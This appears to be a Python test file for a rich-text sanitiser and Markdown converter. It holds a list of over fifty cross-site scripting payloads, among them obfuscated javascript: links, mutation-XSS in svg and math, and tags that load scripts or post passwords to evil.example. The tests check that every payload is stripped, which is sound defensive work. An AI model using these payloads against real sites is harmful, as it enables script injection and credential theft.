"""Rich text: nothing executable survives, what is left stays as it is, and Markdown reads back what it wrote."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from framework.fields.markdown import to_html, to_markdown
from framework.fields.markup import SCHEMES, TAGS, as_blocks, plain_text, sanitised
from ui.page.render import rich_text

# Attacks of the common collections: handlers, schemes in every spelling, other vocabularies, broken
# markup that browsers mend, what changes its meaning when it is read again.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=1 onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/records/account/1/delete'>x</a>",
    "<a href='https://a.example' onclick='alert(1)' style='position:fixed' class=btn id=f-name>x</a>",
    "<a href='https://a.example' target=_top ping='https://evil.example' download>x</a>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<p hx-get='/me' hx-trigger=load data-hx-post='/sign-out' data-picker>x</p>",
    "<p onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<code class=language-x id=main>x</code>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>x",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee></details>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php alert(1) ?>",
    "<div><p title=`</div><img src=x onerror=alert(1)>`>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<p>script>alert(1)<</p>/script>",
    "\u2028<script\u2029>alert(1)</script><p/onclick=alert(1)>",
)
EACH = pytest.mark.parametrize("attack", ATTACKS)
_WORDS = st.lists(
    st.sampled_from((
        "<p>", "</p>", "<a href='", "javascript:", "https://a.example", "'>", "</a>", "<svg>", "<math>",
        "<style>", "</style>",
        "<!--", "-->", "<pre>", "<li>", "<ul>", "</ul>", "<h2>", "<br>", "&lt;", "&#60;", '"', "x", " ", "\n",
        "<table>", "<td>",
        "onclick=x", "<strong>", "<em>", "</strong>", "<code>", "<blockquote>", "<u>", "*", "_", "`", "# ", "1. ", "- ",
    )),
    max_size=25,
).map("".join)  # fmt: skip


class _Read(HTMLParser):
    """What a browser would find in HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.others: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(markup: str) -> None:
    found = _Read(markup)
    assert found.tags <= TAGS
    assert not found.others
    for tag, name, value in found.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel")}
        assert name == "rel" or value.partition(":")[0].lower() in SCHEMES, value


def test_there_are_fifty_attacks() -> None:
    assert len(set(ATTACKS)) >= 50


@EACH
def test_nothing_executable_survives_the_writing(attack: str) -> None:
    assert_harmless(as_blocks(attack))
    assert_harmless(as_blocks(f"<p>{attack}</p>"))


@EACH
def test_nothing_executable_is_shown_though_it_were_stored(attack: str) -> None:
    assert_harmless(rich_text(attack))


@EACH
def test_nothing_executable_comes_of_what_is_typed(attack: str) -> None:
    for typed in (attack, f"[x]({attack})", f"`{attack}`", f"> {attack}", f"![x]({attack})", f"<{attack}>"):
        assert_harmless(to_html(typed))


@settings(max_examples=300)
@given(text=_WORDS | st.text(max_size=60))
@example('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">')
def test_what_is_left_of_any_text_is_harmless_and_stays_as_it_is(text: str) -> None:
    left = as_blocks(text)
    assert_harmless(left)
    assert sanitised(left) == as_blocks(left) == left


@settings(max_examples=300)
@given(typed=_WORDS | st.text(max_size=60))
def test_typed_text_is_harmless_and_its_control_reads_back_the_same_words(typed: str) -> None:
    made = to_html(typed)
    assert_harmless(made)
    again = to_markdown(made)
    read = again if again == made else to_html(again)
    assert plain_text(as_blocks(read)).split() == plain_text(made).split()


@pytest.mark.parametrize(
    "typed",
    [
        "plain words",
        "two\nlines",
        "**bold** *italic* ~~struck~~ `code`",
        "## Heading\n\n### Smaller\n\ntext",
        "- one\n- two\n  - inner\n  - more\n- three",
        "1. one\n2. two",
        "> said\n> so",
        "```\nif a < b:\n    pass\n```",
        "[words](https://example.com/a?b=1&c=2)",
        "[words](<https://example.com/a_(b)>)",
        "5 \\* 3 \\_ 2",
        "\\# no heading",
        "1\\. no list",
        "\\- no list",
    ],
)
def test_the_control_shows_what_was_typed(typed: str) -> None:
    assert to_markdown(to_html(typed)) == typed


def test_what_markdown_cannot_say_stands_as_html_in_the_control() -> None:
    assert to_markdown("<p><u>under</u></p>") == "<p><u>under</u></p>"


def test_a_text_without_words_is_none() -> None:
    for blank in ("", " ", "<p> <br></p>", "<p>&nbsp;</p>", "<script>x</script>", "<!-- x -->"):
        assert plain_text(as_blocks(blank)) == ""


def test_words_stand_in_lines_of_their_blocks() -> None:
    markup = "<h2>A</h2><p>b <strong>c</strong><br>d</p><ul><li>e</li><li>f</li></ul><pre><code>g\n  h</code></pre>"
    assert plain_text(markup) == "A\nb c\nd\ne\nf\ng\nh"
